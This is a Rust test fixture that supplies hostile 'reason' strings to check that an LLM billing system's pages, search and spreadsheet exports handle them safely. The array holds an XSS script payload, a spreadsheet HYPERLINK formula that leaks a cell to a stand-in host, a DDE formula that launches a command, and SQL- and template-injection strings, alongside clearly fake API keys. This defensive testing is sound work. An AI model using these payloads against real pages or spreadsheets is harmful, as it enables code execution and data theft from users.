//! Reasons that break careless pages and spreadsheets: each must be shown, searched and exported like any other.
//!
//! The keys are no keys: they say so themselves.

/// The length of the long reason in bytes.
const LONG: usize = 100_000;

/// One reason of each nasty kind; `None` is the NULL reason.
pub(super) fn reasons() -> Vec<Option<String>> {
    let mut reasons: Vec<_> = TEXTS.iter().map(|text| Some((*text).to_owned())).collect();
    reasons.push(Some(long_traceback()));
    reasons.push(None);
    reasons
}

const TEXTS: [&str; 12] = [
    "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body><h1>502 Bad Gateway</h1>\
     <script>alert('llmage')</script><img src=x onerror=alert(1)></body>\r\n</html>",
    "Traceback (most recent call last):\n  File \"/d/sage/py3/lib/llmage/accounting.py\", line 118, in llm_accounting\n    \
     prices = await env.buffered_charging(llm.ppid, usages)\nKeyError: 'unit \"1k tokens\", it''s missing'\n",
    "⚠️ pricing program returned NaN 😵‍💫 for 8,192 tokens — 价格异常 👩🏽‍💻",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click here\")",
    "+1 tokens over quota",
    "-1.50000 balance after charge, \"rounded\"",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab before a formula",
    "'=1+1 quoted formula",
    "401, message='Unauthorized', api_key=sk-FAKE0000demo0000NOTaREALkey0000FAKE",
    "upstream refused: {'headers': {'Authorization': 'Bearer FAKE.demo-token.not-a-real-secret'}, 'code': 401}",
    "100% of 50_000 tokens\\used; C:\\temp\\usage.json; ' OR '1'='1'; -- {{ reason }} ${reason} %s",
];

/// A traceback that went round in circles until somebody pulled the plug.
fn long_traceback() -> String {
    const FRAME: &str = "  File \"/d/sage/py3/lib/llmage/pricing.py\", line 64, in price\n    return self.parent.price(usages)\n";
    const END: &str = "RecursionError: maximum recursion depth exceeded";
    let mut text = String::from("Traceback (most recent call last):\n");
    while text.len() + END.len() < LONG {
        text.push_str(FRAME);
    }
    text.push_str(END);
    text
}
